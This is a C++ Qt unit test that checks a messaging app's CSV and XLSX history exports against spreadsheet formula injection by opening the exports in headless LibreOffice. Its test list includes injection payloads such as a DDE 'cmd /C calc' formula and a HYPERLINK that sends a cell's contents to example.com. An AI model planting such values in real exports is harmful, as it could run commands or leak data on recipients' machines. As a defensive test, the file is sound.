// SPDX-FileCopyrightText: 2026 Visnyk contributors
// SPDX-License-Identifier: GPL-3.0-or-later

// Every export there is, read by a spreadsheet of others: no text becomes a formula there.

#include "domain/spreadsheet.h"
#include "outbox/historyexport.h"
#include "support/needed.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

#include <algorithm>

using namespace Qt::StringLiterals;
using namespace Visnyk;

namespace {

constexpr int ToColumn = 1;
constexpr int TextColumn = 2;
constexpr qsizetype MostInACell = 32'767; // of any spreadsheet

struct Cell
{
    QString type; // "string", "float"; empty = an empty cell
    QString formula;
    QString text;
};
using Table = QList<QList<Cell>>;

/** Texts that mean harm, and some that only look so. */
QStringList hostileTexts()
{
    return { u"=1+1"_s, u"=cmd|'/C calc'!A0"_s, u"=HYPERLINK(\"http://example.com/?\"&A1;\"x\")"_s,
        u"=DDE(\"soffice\";\"x\";\"y\")"_s, u"=WEBSERVICE(\"http://example.com\")"_s, u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
        u"+1+1"_s, u"-1+1"_s, u"+380501234567 call me"_s, u"\t=1+1"_s, u"\r=1+1"_s, u"\n=1+1"_s, u"  =1+1"_s,
        u"\u00a0=1+1"_s, u"\"=1+1\""_s, u"'=1+1"_s, u"\ufeff=1+1"_s, u"\uff1d1+1"_s, u"\uff0b1+1"_s, u"\uff0d1+1"_s,
        u"\uff20SUM(1)"_s, u"a;=1+1"_s, u"a;=1+1;b"_s, u"a; =1+1"_s, u"a;\"=1+1"_s, u"a\t=1+1\tb"_s, u"a\n=1+1\nb"_s,
        u"a\r\n=1+1"_s, u"a,=1+1,b"_s, u"a\",=1+1,\"b"_s, u"\",=1+1,\""_s, u"\n\",=1+1\n\""_s, u"\";=1+1;\""_s,
        u"{=1+1}"_s, u"<b>bold</b> & <script>"_s, u"&lt;=1+1"_s, u"\u202e=1+1\u2066"_s, u"_x003D_1+1"_s, u"_x0041_"_s,
        u"Dear Олена, \U0001F600 'tis; \"quoted\", well\nsecond line"_s, u"'tis plain"_s, u"- a list\n- of two"_s,
        QString(u'x').repeated(40'000), u"a\u0001b\u001bc"_s, QString(u"a"_s + QChar(0) + u"b"_s),
        QString(QChar(0) + u"=1+1"_s), QString(u"half a pair "_s + QChar(0xd800)) };
}

QList<MessageInfo> rows()
{
    QList<MessageInfo> all;
    const QStringList texts = hostileTexts();
    for (const QString &text : texts) {
        MessageInfo message;
        message.id = all.size() + 1;
        message.createdMs = 1'767'225'600'000;
        message.address = Address(u"+380501234567"_s);
        message.text = text;
        message.sender = text.left(200);
        message.state = SendState::Accepted;
        message.parts = 1;
        message.cost = Money::fromMicros(420'000);
        message.currency = u"UAH"_s;
        message.gatewayId = GatewayId(u"ABCDEF-1"_s);
        message.batchPublicId = u"01J"_s;
        HlrResult hlr; // what a gateway may say of a number that was checked
        hlr.country = text.left(100);
        hlr.network = text.left(100);
        hlr.roamingNetwork = text.left(100);
        hlr.imsi = u"255010501234567"_s;
        message.hlr = hlr;
        all.append(message);
    }
    return all;
}

/** The text of the element that was begun, as a person sees it. */
QString textOf(QXmlStreamReader &xml)
{
    QString text;
    int paragraphs = 0;
    int inside = 0; // a paragraph: what stands between them is only for the eye
    for (int depth = 1; depth > 0 && !xml.atEnd();) {
        xml.readNext();
        const QStringView name = xml.qualifiedName();
        if (xml.isStartElement()) {
            ++depth;
            inside += name == u"text:p" ? 1 : 0;
            if (name == u"text:s")
                text += QString(std::max(1, xml.attributes().value(u"text:c"_s).toInt()), u' ');
            else if (name == u"text:tab")
                text += u'\t';
            else if (name == u"text:line-break" || (name == u"text:p" && paragraphs++ > 0))
                text += u'\n';
        } else if (xml.isEndElement()) {
            --depth;
            inside -= name == u"text:p" ? 1 : 0;
        } else if (xml.isCharacters() && inside > 0) {
            text += xml.text();
        }
    }
    return text;
}

/** A flat OpenDocument table, each cell as the spreadsheet understood it. */
Table readFlat(const QString &path)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return {};
    Table table;
    QXmlStreamReader xml(&file);
    while (!xml.atEnd()) {
        xml.readNext();
        if (xml.isStartElement() && xml.qualifiedName() == u"table:table-row")
            table.append(QList<Cell>());
        if (!xml.isStartElement() || xml.qualifiedName() != u"table:table-cell" || table.isEmpty())
            continue;
        Cell cell;
        const int repeated = xml.attributes().value(u"table:number-columns-repeated"_s).toInt();
        cell.type = xml.attributes().value(u"office:value-type"_s).toString();
        cell.formula = xml.attributes().value(u"table:formula"_s).toString();
        cell.text = textOf(xml);
        for (int i = 0; i < std::clamp(repeated, 1, 100); ++i)
            table.last().append(cell);
    }
    return table;
}

/** What is left of a text in the file of such a spreadsheet: no control characters, line ends of one kind. */
QString comparable(QString text)
{
    text.replace(u"\r\n"_s, u"\n"_s).replace(u'\r', u'\n');
    text.removeIf([](QChar c) {
        return (c < u' ' && c != u'\n' && c != u'\t') || c == QChar::ReplacementCharacter || c.isSurrogate()
            || c == QChar::ByteOrderMark || c == u'?';
    });
    return text;
}

QStringList formulasOf(const Table &table)
{
    QStringList found;
    for (const QList<Cell> &row : table) {
        for (const Cell &cell : row) {
            if (!cell.formula.isEmpty())
                found.append(cell.formula + u" shown as "_s + cell.text);
        }
    }
    return found;
}

} // namespace

class tst_ExportedTables : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void everyExportIsPrivate_data();
    void everyExportIsPrivate();
    void nothingIsWrittenAnywhereElse();
    void theSearchFindsFormulas();
    void commasAreReadAsTheyAre();
    void semicolonsAndTabsMakeNoFormula();
    void workbookHoldsTheVeryTexts();

private:
    void convert(const QString &name, const QString &filter);
    [[nodiscard]] Table tableOf(const QString &name) const { return readFlat(m_dir.filePath(u"out/"_s + name)); }

    QTemporaryDir m_dir;
    QString m_office;
};

void tst_ExportedTables::initTestCase()
{
    QVERIFY(m_dir.isValid());
    for (const QString &name : { u"commas.csv"_s, u"others.csv"_s, u"book.xlsx"_s }) {
        const Result<> written = exportHistory(m_dir.filePath(name), rows());
        QVERIFY2(written, written ? "" : qPrintable(written.error().detail));
    }
    QFile planted(m_dir.filePath(u"planted.csv"_s));
    QVERIFY(planted.open(QIODevice::WriteOnly));
    planted.write("a,=1+1,\"=2+2\"\r\nb,c\"x;=3+3;y\"\r\n");
    planted.close();
    m_office = QStandardPaths::findExecutable(u"soffice"_s);
    if (m_office.isEmpty())
        return;
    // Separators, quote, UTF-8, first row: how commas are meant to be read, and how many people's settings read them.
    convert(u"commas.csv"_s, u"Text - txt - csv (StarCalc):44,34,76,1"_s);
    convert(u"others.csv"_s, u"Text - txt - csv (StarCalc):59/9,34,76,1"_s);
    convert(u"planted.csv"_s, u"Text - txt - csv (StarCalc):59/9/44,34,76,1"_s);
    convert(u"book.xlsx"_s, QString());
}

void tst_ExportedTables::convert(const QString &name, const QString &filter)
{
    QStringList arguments { u"-env:UserInstallation=file://"_s + m_dir.filePath(u"profile"_s), u"--headless"_s,
        u"--norestore"_s };
    if (!filter.isEmpty())
        arguments.append(u"--infilter="_s + filter);
    arguments << u"--convert-to"_s << u"fods"_s << u"--outdir"_s << m_dir.filePath(u"out"_s) << m_dir.filePath(name);
    QProcess process;
    process.setProcessChannelMode(QProcess::MergedChannels);
    process.start(m_office, arguments);
    if (!process.waitForFinished(120'000)) {
        process.kill();
        process.waitForFinished();
    }
    const QString made = m_dir.filePath(u"out/"_s + name.section(u'.', 0, 0) + u".fods"_s);
    QVERIFY2(QFile::exists(made), process.readAll().constData());
}

void tst_ExportedTables::everyExportIsPrivate_data()
{
    QTest::addColumn<QString>("name");
    QTest::newRow("csv") << u"old.csv"_s;
    QTest::newRow("xlsx") << u"old.xlsx"_s;
}

void tst_ExportedTables::everyExportIsPrivate()
{
    QFETCH(QString, name);
    const QString path = m_dir.filePath(name);
    QFile old(path); // one that everybody could read
    QVERIFY(old.open(QIODevice::WriteOnly));
    QVERIFY(old.setPermissions(
        QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::ReadOther | QFile::WriteOther));
    old.close();
    QVERIFY(exportHistory(path, rows().mid(0, 1)));
    const QFile::Permissions others
        = QFile::ReadGroup | QFile::WriteGroup | QFile::ReadOther | QFile::WriteOther | QFile::ExeOwner;
    QVERIFY(!(QFile::permissions(path) & others));
    const QStringList halfDone = QDir(m_dir.path()).entryList({ name + u"?*"_s }, QDir::Files | QDir::Hidden);
    QCOMPARE(halfDone, QStringList());
}

/** Not even for a moment: other people's backups and cleaners look at the folder of temporary files. */
void tst_ExportedTables::nothingIsWrittenAnywhereElse()
{
    const QByteArray temporary = qgetenv("TMPDIR");
    qputenv("TMPDIR", "/nonexistent");
    const auto restore = qScopeGuard([&temporary] { qputenv("TMPDIR", temporary); });
    const QDir folder(m_dir.filePath(u"alone"_s));
    QVERIFY(folder.mkpath(u"."_s));
    const Result<> written = exportHistory(folder.filePath(u"history.xlsx"_s), rows());
    QVERIFY2(written, written ? "" : qPrintable(written.error().detail));
    QCOMPARE(
        folder.entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot), (QStringList { u"history.xlsx"_s }));
}

void tst_ExportedTables::theSearchFindsFormulas()
{
    if (m_office.isEmpty())
        VISNYK_LACKS("a spreadsheet (libreoffice-calc-nogui)");
    QCOMPARE(formulasOf(tableOf(u"planted.fods"_s)).size(), 3); // the third where the separator is another one
}

void tst_ExportedTables::commasAreReadAsTheyAre()
{
    if (m_office.isEmpty())
        VISNYK_LACKS("a spreadsheet (libreoffice-calc-nogui)");
    const Table table = tableOf(u"commas.fods"_s);
    QCOMPARE(formulasOf(table), QStringList());
    const QStringList texts = hostileTexts();
    QVERIFY(table.size() > texts.size());
    for (qsizetype i = 0; i < texts.size(); ++i) {
        const QList<Cell> &row = table.at(i + 1);
        QVERIFY(row.size() > TextColumn);
        QCOMPARE(row.at(ToColumn).text, u"380501234567"_s);
        if (texts.at(i).size() > MostInACell)
            continue;
        QCOMPARE(comparable(row.at(TextColumn).text), comparable(guardedCell(texts.at(i))));
        QCOMPARE(comparable(unguardedCell(row.at(TextColumn).text)), comparable(texts.at(i)));
        QCOMPARE(row.at(TextColumn).type, u"string"_s);
    }
}

void tst_ExportedTables::semicolonsAndTabsMakeNoFormula()
{
    if (m_office.isEmpty())
        VISNYK_LACKS("a spreadsheet (libreoffice-calc-nogui)");
    const Table table = tableOf(u"others.fods"_s);
    QVERIFY(table.size() >= hostileTexts().size());
    QCOMPARE(formulasOf(table), QStringList());
}

void tst_ExportedTables::workbookHoldsTheVeryTexts()
{
    if (m_office.isEmpty())
        VISNYK_LACKS("a spreadsheet (libreoffice-calc-nogui)");
    const Table table = tableOf(u"book.fods"_s);
    QCOMPARE(formulasOf(table), QStringList());
    const QStringList texts = hostileTexts();
    QVERIFY(table.size() > texts.size());
    for (qsizetype i = 0; i < texts.size(); ++i) {
        const QList<Cell> &row = table.at(i + 1);
        QVERIFY(row.size() > TextColumn);
        QCOMPARE(row.at(ToColumn).text, u"380501234567"_s);
        QCOMPARE(row.at(ToColumn).type, u"string"_s);
        const QString shown = row.at(TextColumn).text;
        if (texts.at(i).size() <= MostInACell)
            QCOMPARE(comparable(shown), comparable(texts.at(i)));
        else // as much of it as a cell holds, and the end is marked
            QVERIFY(shown.size() > MostInACell - 100 && texts.at(i).startsWith(shown.left(30'000)));
    }
}

QTEST_GUILESS_MAIN(tst_ExportedTables)
#include "tst_exportedtables.moc"
